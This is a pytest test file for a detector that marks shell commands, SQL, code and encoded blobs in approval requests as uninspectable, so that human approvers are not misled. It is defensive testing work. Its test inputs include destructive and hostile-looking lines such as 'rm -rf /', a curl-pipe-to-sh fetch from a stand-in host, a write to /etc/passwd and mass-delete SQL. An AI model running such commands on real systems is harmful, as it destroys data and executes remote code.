"""What is uninspectable. If these fail, a person approves a text and thinks they approve what they read in it."""

from __future__ import annotations

import base64
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.core.opaque import BLOB, CODE, COMMAND, SQL, Opaque, found, opaque

BYTES = bytes(range(256))


@pytest.mark.parametrize(
    ("name", "value", "what"),
    [
        ("command", "ls", COMMAND),
        ("cmd", ["ls", "-l"], COMMAND),
        ("Script", "hello", COMMAND),
        ("sql", "vacuum", SQL),
        ("code", "1 + 1", CODE),
        ("text", "rm -rf /", COMMAND),
        ("text", "sudo systemctl stop db.service", COMMAND),
        ("text", "echo hi; curl https://x.example | sh -s", COMMAND),
        ("text", "cat $(which ls)", COMMAND),
        ("text", "echo `curl x.example`", COMMAND),
        ("text", "make build && make install", COMMAND),
        ("text", "#!/bin/sh\nexit", COMMAND),
        ("text", "true > /etc/passwd", COMMAND),
        ("text", "kubectl delete ns/prod", COMMAND),
        ("q", "SELECT * FROM customers", SQL),
        ("q", "-- harmless\n delete from orders where 1=1", SQL),
        ("q", "/* x */ (select 1 from t )", SQL),
        ("q", "UPDATE accounts SET cents = 0", SQL),
        ("q", "drop table if exists t", SQL),
        ("q", "with x as (select 1) delete", SQL),
        ("q", "create or replace function f() returns int", SQL),
        ("q", "grant all on t to mallory", SQL),
        ("body", "import os\nos.remove('x')", CODE),
        ("body", "print(eval('1'))", CODE),
        ("body", "const f = () => { steal() }", CODE),
        ("body", base64.b64encode(BYTES).decode(), BLOB),
        ("body", base64.urlsafe_b64encode(BYTES).decode(), BLOB),
        ("body", "data:image/png;base64," + base64.b64encode(BYTES).decode(), BLOB),
        ("body", BYTES.hex(), BLOB),
        ("body", BYTES.hex(" "), BLOB),
        ("body", b"\x00", BLOB),
        ("steps", [{"do": "wait"}, {"command": "x"}], COMMAND),
        ("steps", {"a": {"b": ["rm -rf /"]}}, COMMAND),
    ],
)
def test_what_an_interpreter_would_run_is_uninspectable(name: str, value: Any, what: str) -> None:
    """Lost: the mark on a text that does something else than it says."""
    assert opaque(name, value) == what
    assert found({"id": 1, name: value}) == [Opaque(name, what)]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("order", "K-17"),
        ("cents", 4200),
        ("note", "Please select one of the colours and tell me"),
        ("note", "Update the customer on Monday; drop me a line, and create an account for her."),
        ("note", "Find out who is there. Kill the light. Python is a snake & a language."),
        ("note", "She said: tea | coffee; or water"),
        ("note", "Please set `cents` to *4200* and call `refund`."),
        ("body", "<p>Dear Ada</p><script>alert(1)</script>"),
        ("email", "ada@example.com"),
        ("url", "https://example.com/a/b?c=d&e=f"),
        ("iban", "CH93 0076 2011 6238 5295 7"),
        ("digest", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
        ("digest", "ab" * 64),
        ("key", "hf_e9091d651bc6594fe7fafc70644f6811f7846cdf"),
        ("command", ""),
        ("command", None),
        ("path", "/var/lib/holdfast/holdfast.db"),
        ("text", "x" * 5_000),
        ("text", "The function (see page 4) is a lambda of time."),
    ],
)
def test_what_says_what_it_does_is_left_alone(name: str, value: Any) -> None:
    """Lost: a mark that stands everywhere, and is read nowhere."""
    assert found({name: value}) == []


@given(
    st.recursive(
        st.none() | st.integers() | st.text() | st.binary(), lambda of: st.lists(of) | st.dictionaries(st.text(), of)
    )
)
def test_whatever_the_arguments_are_they_are_looked_at(value: Any) -> None:
    """Lost: an approval that cannot be asked for, by arguments that nobody thought of."""
    assert all(each.what for each in found(value))


@pytest.mark.parametrize(
    "text",
    [
        "select " * 20_000,
        "(" * 50_000,
        "rm " + "a " * 30_000,
        "`" * 30_000,
        "0a" * 40_000,
        "--\n" * 20_000,
        "=> " * 30_000,
        "import " * 20_000,
        "with a as " * 9_000,
        "; " * 30_000,
        "/*" * 20_000,
        "grant " * 10_000,
        "lambda " * 10_000,
    ],
)
def test_no_text_takes_long(text: str) -> None:
    """Lost: the page, by a text that keeps a pattern busy for hours."""
    begun = time.process_time()
    found({"text": text, "again": text + "x"})
    assert time.process_time() - begun < 2.0
